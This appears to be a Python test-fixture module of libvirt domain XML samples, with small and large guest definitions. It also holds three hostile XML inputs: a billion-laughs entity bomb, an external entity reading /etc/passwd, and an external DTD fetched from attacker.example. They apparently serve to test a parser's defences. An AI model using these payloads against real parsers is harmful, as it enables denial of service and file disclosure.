"""Domain XML as libvirt writes it, of guests that have a little of everything."""

from __future__ import annotations

UUID = "6f1c2f6e-0f5b-4a3e-9d0e-2f6b8a1c3d4e"

#: A plain Linux guest: an overlay on a base image, a CD-ROM, a serial log, the agent.
SMALL = f"""<domain type='kvm' id='7'>
  <name>web1</name>
  <uuid>{UUID}</uuid>
  <memory unit='KiB'>1048576</memory>
  <vcpu placement='static'>2</vcpu>
  <os><type arch='x86_64' machine='pc-q35-7.2'>hvm</type><boot dev='hd'/></os>
  <devices>
    <emulator>/usr/bin/qemu-system-x86_64</emulator>
    <disk type='file' device='disk'>
      <driver name='qemu' type='qcow2' cache='none' discard='unmap'/>
      <source file='/images/web1.snap1' index='2' startupPolicy='optional'>
        <seclabel model='dac' relabel='no'/>
      </source>
      <backingStore type='file' index='3'>
        <format type='qcow2'/><source file='/images/web1.qcow2'/><backingStore/>
      </backingStore>
      <mirror type='file' file='/images/copy.qcow2' format='qcow2' job='copy'><source file='/images/copy.qcow2'/></mirror>
      <target dev='vda' bus='virtio'/>
      <iotune><total_iops_sec>500</total_iops_sec></iotune>
      <serial>WEB1ROOT</serial>
      <address type='pci' domain='0x0000' bus='0x04' slot='0x00' function='0x0'/>
    </disk>
    <disk type='file' device='cdrom'>
      <driver name='qemu' type='raw'/>
      <source file='/iso/debian.iso' startupPolicy='optional'/>
      <target dev='sda' bus='sata'/>
      <readonly/>
    </disk>
    <disk type='file' device='disk'>
      <driver name='qemu' type='raw'/>
      <source file='/images/scratch.raw'/>
      <target dev='vdb' bus='virtio'/>
      <transient/>
    </disk>
    <interface type='network'>
      <mac address='52:54:00:11:22:33'/>
      <source network='default'/>
      <target dev='web1-net0'/>
      <model type='virtio'/>
    </interface>
    <serial type='file'>
      <source path='/var/log/guests/serial.log' append='on'/>
      <log file='/var/log/guests/extra.log' append='off'/>
      <target type='isa-serial' port='0'><model name='isa-serial'/></target>
    </serial>
    <console type='file'>
      <source path='/var/log/guests/serial.log' append='on'/>
      <log file='/var/log/guests/extra.log' append='off'/>
      <target type='serial' port='0'/>
    </console>
    <channel type='unix'>
      <source mode='bind' path='/var/lib/libvirt/qemu/channel/target/domain-7-web1/org.qemu.guest_agent.0'/>
      <target type='virtio' name='org.qemu.guest_agent.0'/>
    </channel>
    <graphics type='vnc' port='5901' autoport='no' websocket='5701' listen='127.0.0.1'>
      <listen type='address' address='127.0.0.1'/>
    </graphics>
  </devices>
  <seclabel type='static' model='dac' relabel='no'><label>64055:64055</label></seclabel>
</domain>"""

#: A Windows guest: UEFI, TPM, generation id, an encrypted disk, one on Ceph, Open vSwitch, vsock, options for QEMU.
LARGE = f"""<domain type='kvm' xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'>
  <name>dc1</name>
  <uuid>{UUID}</uuid>
  <genid>11111111-2222-3333-4444-555555555555</genid>
  <memory unit='KiB'>4194304</memory>
  <vcpu>4</vcpu>
  <sysinfo type='smbios'>
    <system><entry name='manufacturer'>Example</entry><entry name='uuid'>{UUID}</entry></system>
  </sysinfo>
  <os>
    <type arch='x86_64' machine='q35'>hvm</type>
    <loader readonly='yes' type='pflash'>/usr/share/OVMF/OVMF_CODE.fd</loader>
    <nvram template='/usr/share/OVMF/OVMF_VARS.fd'>/var/lib/libvirt/qemu/nvram/dc1_VARS.fd</nvram>
  </os>
  <features><acpi/></features>
  <devices>
    <disk type='file' device='disk'>
      <driver name='qemu' type='qcow2'><metadata_cache><max_size unit='bytes'>1048576</max_size></metadata_cache></driver>
      <source file='/images/dc1.qcow2'>
        <encryption format='luks'><secret type='passphrase' uuid='0b8a1c3d-0f5b-4a3e-9d0e-2f6b8a1c3d4e'/></encryption>
      </source>
      <target dev='sda' bus='sata'/>
    </disk>
    <disk type='network' device='disk'>
      <driver name='qemu' type='raw'/>
      <auth username='libvirt'><secret type='ceph' uuid='0b8a1c3d-0f5b-4a3e-9d0e-2f6b8a1c3d4e'/></auth>
      <source protocol='rbd' name='pool/dc1-data'><host name='ceph1' port='6789'/></source>
      <target dev='sdb' bus='sata'/>
    </disk>
    <interface type='bridge'>
      <mac address='52:54:00:aa:bb:cc'/>
      <source bridge='ovsbr0'/>
      <virtualport type='openvswitch'><parameters interfaceid='0b8a1c3d-0f5b-4a3e-9d0e-2f6b8a1c3d4e'/></virtualport>
    </interface>
    <serial type='tcp'>
      <source mode='bind' host='127.0.0.1' service='4555'/><protocol type='raw'/>
      <target type='isa-serial' port='0'/>
    </serial>
    <serial type='unix'>
      <source mode='bind' path='/run/guests/dc1.sock'/>
      <target type='isa-serial' port='1'/>
    </serial>
    <tpm model='tpm-crb'><backend type='emulator' version='2.0'/></tpm>
    <graphics type='spice' port='5902' tlsPort='5903' autoport='no'/>
    <vsock model='virtio'><cid auto='no' address='3'/></vsock>
  </devices>
  <qemu:commandline><qemu:arg value='-d'/></qemu:commandline>
</domain>"""

BILLION_LAUGHS = """<!DOCTYPE domain [
  <!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
]><domain><name>&e;</name><uuid>x</uuid><devices/></domain>"""

EXTERNAL_ENTITY = """<!DOCTYPE domain [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<domain><name>&x;</name><uuid>x</uuid><devices/></domain>"""

EXTERNAL_DTD = """<!DOCTYPE domain SYSTEM "http://attacker.example/evil.dtd">
<domain><name>a</name><uuid>x</uuid><devices/></domain>"""

EMPTY_DOCTYPE = "<!DOCTYPE domain><domain><name>a</name><uuid>x</uuid><devices/></domain>"

#: What libvirt's own test driver accepts.
TESTED = f"""<domain type='test'>
  <name>alpha</name>
  <uuid>{UUID}</uuid>
  <memory unit='KiB'>8192</memory>
  <vcpu>1</vcpu>
  <os><type arch='i686'>hvm</type></os>
  <devices>
    <disk type='file' device='disk'>
      <driver name='qemu' type='qcow2'/>
      <source file='/images/alpha.qcow2'/>
      <target dev='vda' bus='virtio'/>
    </disk>
    <disk type='block' device='disk'>
      <driver name='qemu' type='raw'/>
      <source dev='/dev/vg/alpha'/>
      <target dev='vdb' bus='virtio'/>
    </disk>
  </devices>
</domain>"""
